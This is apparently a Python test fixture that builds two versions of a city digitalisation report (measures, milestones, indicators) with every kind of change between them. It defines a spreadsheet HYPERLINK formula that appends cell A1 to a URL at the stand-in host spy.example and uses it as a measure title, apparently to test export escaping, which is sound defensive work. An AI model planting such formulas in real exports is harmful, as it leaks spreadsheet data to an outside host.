"""Two reports with every kind of change between them."""

from datetime import date
from typing import Any

from digitalrat.masterplan.models import Chapter
from digitalrat.measures.enums import Light, Status
from digitalrat.measures.models import Indicator, IndicatorValue, Measure, Milestone, Report
from tests.factories.members import Cast

from .reports import SUMMER, WINTER, freeze_on, make_measure, make_milestone, put_off, report_on

FORMULA = '=HYPERLINK("https://spy.example/?"&A1;"Mängelmelder")'


def make_indicator(measure: Measure, title: str = "Anteil der Ämter", target: int = 80) -> Indicator:
    indicator = Indicator.objects.create(
        measure=measure,
        title=title,
        unit="%",
        decimals=1,
        baseline=20,
        baseline_on=date(2025, 1, 1),
        target=target,
        target_on=date(2027, 12, 31),
    )
    IndicatorValue.objects.create(indicator=indicator, on=date(2026, 5, 31), value="41.5")
    return indicator


def make_everything(cast: Cast, chapter: Chapter | None = None) -> tuple[Report, Report]:
    """Summer and winter as drafts; the title of M-04, which is new in winter, is a formula."""
    termine = make_measure(
        chapter=chapter, description="Jedes Amt wird bis Ende 2026 freie Termine anbieten.", budget="300000"
    )
    pilot, first = make_milestone(termine), make_milestone(termine, "Erste Stelle", date(2026, 8, 31))
    netz = make_measure("M-02", "Sensornetz", chapter=chapter, ends_on=date(2026, 12, 31))
    schulen = make_measure("M-03", "Glasfaser für Schulen", light=Light.YELLOW, note="Ein Los ist offen.")
    ampel = make_measure("M-05", "Ampeln, die warten")
    archiv = make_measure("M-06", "Digitales Archiv")
    beirat = make_measure("M-07", "Beirat, Jury & Co. <Bürger>")
    indicator = make_indicator(beirat)
    for measure in (termine, netz, schulen, ampel, archiv, beirat):
        report_on(measure, date(2026, 5, 4))
    summer = freeze_on(cast, SUMMER)
    put_off(pilot, date(2027, 3, 31))
    Milestone.objects.filter(pk=first.pk).update(done_on=date(2026, 9, 2))
    change(
        termine, light=Light.RED, note="Es fehlt Personal.", description="Jedes Amt prüft freie Termine.", budget=250000
    )
    change(schulen, light=Light.GREEN, note="")
    change(netz, status=Status.COMPLETED)
    change(ampel, status=Status.STOPPED, light=Light.GREY)
    change(beirat, status=Status.PAUSED)
    archiv.delete()
    Indicator.objects.filter(pk=indicator.pk).update(target=60)
    make_measure("M-04", FORMULA, chapter=chapter, status=Status.PLANNED, light=Light.GREY)
    for measure in (termine, netz, beirat):
        report_on(measure, date(2026, 11, 2))
    return summer, freeze_on(cast, WINTER)


def change(measure: Measure, **fields: Any) -> None:
    Measure.objects.filter(pk=measure.pk).update(**fields)
